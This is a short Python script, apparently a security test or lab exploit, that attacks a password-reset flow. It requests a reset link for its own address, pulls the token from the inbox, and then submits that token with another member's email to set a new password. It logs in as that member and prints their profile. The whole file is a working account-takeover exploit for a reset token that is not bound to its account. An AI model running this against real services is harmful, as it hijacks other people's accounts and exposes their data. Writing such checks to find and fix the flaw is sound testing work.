"""The token of the own link, with the address of another member."""

from urllib.parse import parse_qs, urlsplit

from target import http, inbox, other_address, own_address

http.post("/forgot", data={"email": own_address()})
(link,) = [line for line in inbox()[-1].splitlines() if line.startswith("https://")]
token = parse_qs(urlsplit(link).query)["token"][0]
http.post("/reset", data={"token": token, "email": other_address(), "password": "rowing-at-dawn"})
http.post("/login", data={"email": other_address(), "password": "rowing-at-dawn"})
print(http.get("/profile").text)
